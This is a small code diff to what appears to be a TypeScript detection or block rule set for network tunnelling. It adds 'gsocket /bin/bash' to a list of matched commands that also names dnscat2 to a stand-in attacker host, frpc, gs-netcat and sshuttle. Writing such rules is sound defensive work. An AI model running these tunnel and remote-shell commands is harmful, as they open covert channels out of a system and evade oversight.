@@ -152,6 +152,7 @@ export const tunnels: readonly AnyRule[] = [
         "dnscat2 attacker.example",
         "frpc -c frpc.ini",
         "gs-netcat -s x -i",
+        "gsocket /bin/bash",
         "sshuttle -r user@host 0/0",
       ],
       allow: ["echo chisel", "grep frpc notes.md", "chisel --help"],
